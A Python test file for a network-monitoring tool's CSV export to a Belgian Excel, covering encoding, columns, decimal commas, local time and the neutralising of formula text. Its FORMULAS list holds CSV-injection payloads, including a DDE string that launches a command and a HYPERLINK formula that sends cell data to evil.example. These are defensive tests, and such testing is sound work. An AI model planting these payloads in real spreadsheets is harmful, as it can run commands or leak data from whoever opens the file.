"""The CSV: what a Belgian Excel makes of it, read back by a reader of our own."""

import csv
import re
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from netmon.report.edition import Edition
from netmon.report.issue import files_of
from netmon.report.sheet import FORMULA_STARTS, cell, inert, written
from netmon.report.sheet_rows import COLUMNS, rows_of
from tests.report.reports import incident, report

BRUSSELS = ZoneInfo("Europe/Brussels")
BELGIAN_NUMBER = re.compile(r"-?\d+(,\d{1,6})?")

FORMULAS = (
    "=1+1",
    "+32 15 29 79 11",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=cmd|'/C calc'!A0",
    '"=1+1',
    "'=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe62" + "1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u201c=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
)


def made() -> bytes:
    return files_of(Edition(1, "0.1.0", report()))["csv"]


def split(content: bytes) -> list[list[str]]:
    """Return the cells, by the rules that Excel follows with a semicolon as list separator."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(text.splitlines(keepends=True), delimiter=";"))


def test_excel_is_told_the_encoding_and_finds_its_line_ends() -> None:
    content = made()
    assert content.startswith(b"\xef\xbb\xbf") and content.count(b"\xef\xbb\xbf") == 1
    assert content.endswith(b"\r\n")
    assert content.replace(b"\r\n", b"").count(b"\n") == 0
    assert b"\r" not in content.replace(b"\r\n", b"")


def test_every_row_has_every_column_once() -> None:
    heads, *rows = split(made())
    assert tuple(heads) == COLUMNS and len(set(heads)) == len(heads)
    assert all(len(row) == len(heads) for row in rows)
    known = set().union(*(row.keys() for row in rows_of(report(), 1)))
    assert known == set(COLUMNS), "no column is empty for ever, and none is lost"


def test_a_reader_of_its_own_gets_the_figures_of_the_report(tmp_path) -> None:
    path = tmp_path / "r1.csv"
    path.write_bytes(made())
    table = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", dayfirst=True)
    each = report()
    parts = table["onderdeel"].value_counts()
    assert parts["alles"] == 1 and parts["soort"] == 3 and parts["toestel (slechtste)"] == 10
    assert parts["dag"] == 31 * 4 and parts["incident"] == 3
    (whole,) = table[table["onderdeel"] == "alles"].to_dict("records")
    assert whole["werkte (%)"] == pytest.approx(100 * (each.total.figures.availability or 0))
    assert whole["werkte niet (uur)"] == pytest.approx(each.total.figures.failed_s / 3600)
    days = table[(table["onderdeel"] == "dag") & (table["naam"] == "Alles samen")]
    for name, field in (("bruikbaar (uur)", "usable_s"), ("onbekend (uur)", "unknown_s")):
        expected = sum(getattr(day.total, field) for day in each.days) / 3600
        assert days[name].sum() == pytest.approx(expected)
    began = pd.to_datetime(table["begin"].dropna(), dayfirst=True).tolist()
    assert began[0] == datetime(2026, 10, 14, 10, 5)  # noqa: DTZ001 - as Excel shows it: local
    assert set(pd.to_datetime(table["maand"], dayfirst=True)) == {datetime(2026, 10, 1)}  # noqa: DTZ001


def test_every_row_says_whether_it_is_made_up_provisional_and_smoothed() -> None:
    """A row that is filtered out of the table, and mailed on, still says so."""
    origin = replace(report().made_from, smoothing_s=150)
    draft = report(is_synthetic=True, is_complete=False, made_from=origin)
    for edition, said in (
        (Edition(1, "", report()), ("nee", "nee", "0")),
        (Edition(None, "", draft), ("ja", "ja", "150")),
    ):
        heads, *rows = split(files_of(edition)["csv"])
        places = [heads.index(each) for each in ("voorbeeld", "voorlopig", "afgevlakt (seconden)")]
        assert {tuple(row[place] for place in places) for row in rows} == {said}


def test_numbers_are_belgian_numbers() -> None:
    heads, *rows = split(made())
    for row in rows:
        for head, value in zip(heads, row, strict=True):
            if head.endswith(("(uur)", "(%)")) and value:
                assert BELGIAN_NUMBER.fullmatch(value), (head, value)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_is_a_formula(text: str) -> None:
    assert inert(text).startswith("'")
    name = incident(subject_name=text, place_name=text, reason=text)
    content = files_of(Edition(1, "0.1.0", report(incidents=(name,))))["csv"]
    for row in split(content):
        texts = (value for value in row if not BELGIAN_NUMBER.fullmatch(value))
        assert not any(value.startswith(FORMULA_STARTS) for value in texts)


@given(st.text())
def test_text_keeps_to_its_cell_whatever_it_holds(text: str) -> None:
    content = written(("a", "b"), [{"a": text, "b": 1}], BRUSSELS)
    _, (first, second) = split(content)
    assert first == inert(text) and second == "1"
    assert not first.startswith(FORMULA_STARTS) and first.isprintable()


@given(st.floats(-1e9, 1e9))
def test_a_number_comes_back(value: float) -> None:
    text = cell(value, BRUSSELS)
    assert BELGIAN_NUMBER.fullmatch(text) and text != "-0"
    assert float(text.replace(",", ".")) == pytest.approx(value, abs=1e-6)


@given(st.datetimes(datetime(2020, 1, 1), datetime(2040, 1, 1), timezones=st.just(UTC)))  # noqa: DTZ001
def test_an_instant_is_local_time(at: datetime) -> None:
    shown = datetime.strptime(cell(at, BRUSSELS), "%d/%m/%Y %H:%M:%S").replace(tzinfo=UTC)
    assert shown - at.replace(microsecond=0) in {timedelta(hours=1), timedelta(hours=2)}


def test_what_is_not_known_is_empty_and_never_nought() -> None:
    assert cell(None, BRUSSELS) == ""
    assert cell(0, BRUSSELS) == "0" and cell(0.0, BRUSSELS) == "0"
    assert [cell(each, BRUSSELS) for each in (True, False)] == ["ja", "nee"]
    assert cell(date(2026, 3, 9), BRUSSELS) == "09/03/2026"
